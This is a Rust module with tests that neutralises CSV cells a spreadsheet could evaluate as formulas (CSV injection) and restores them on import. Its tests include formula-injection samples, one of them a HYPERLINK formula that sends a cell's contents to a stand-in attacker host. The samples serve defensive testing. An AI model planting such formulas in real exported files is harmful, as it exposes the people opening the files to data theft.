//! Every CSV the service writes goes through [`SafeWriter`]: a spreadsheet opening the file
//! must never evaluate a cell as a formula (CSV injection). OWASP's rule: a cell that starts
//! with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which spreadsheets
//! read as "text follows". Numbers the service writes itself (`-1`, `12.5`) stay numbers.

use std::borrow::Cow;

/// The characters a spreadsheet may start a formula (or a DDE call) with.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` is a plain decimal number: `-1`, `12.5`. Such a cell is no formula.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// The cell as it is written: neutralised with a leading `'` when a spreadsheet would read
/// it as a formula.
pub fn neutralised(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) && !is_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`neutralised`]: what the import reads back from an exported CSV.
pub fn restored(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) && !is_number(rest) => rest,
        _ => cell,
    }
}

/// A CSV writer into memory whose every cell is [`neutralised`].
pub struct SafeWriter(csv::Writer<Vec<u8>>);

impl SafeWriter {
    pub fn new() -> SafeWriter {
        SafeWriter(csv::Writer::from_writer(Vec::new()))
    }

    pub fn write<I, S>(&mut self, record: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> =
            record.into_iter().map(|c| neutralised(c.as_ref()).into_owned()).collect();
        self.0.write_record(&cells)
    }

    pub fn finish(self) -> Result<Vec<u8>, csv::Error> {
        self.0.into_inner().map_err(|e| csv::Error::from(e.into_error()))
    }
}

impl Default for SafeWriter {
    fn default() -> Self {
        SafeWriter::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")",
            "=2+5",
            "+31 6 1234",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "-",
            "-1e3",
            "-.5",
        ] {
            assert_eq!(neutralised(formula), format!("'{formula}"), "{formula}");
        }
        for kept in ["Bakkerij Jansen", "-1", "12.5", "-0.25", "42", "", "a=b", "'quoted"] {
            assert_eq!(neutralised(kept), kept, "{kept}");
        }
    }

    #[test]
    fn a_neutralised_cell_is_restored_and_nothing_else_changes() {
        for cell in ["=2+5", "-2+3", "@SUM(A1)", "Bakkerij Jansen", "-1", "'quoted", "'", ""] {
            assert_eq!(restored(&neutralised(cell)), cell, "{cell}");
        }
    }

    #[test]
    fn the_writer_neutralises_every_cell() {
        let mut w = SafeWriter::new();
        w.write(["=1+1", "-1", "naam"]).unwrap();
        assert_eq!(String::from_utf8(w.finish().unwrap()).unwrap(), "'=1+1,-1,naam\n");
    }
}
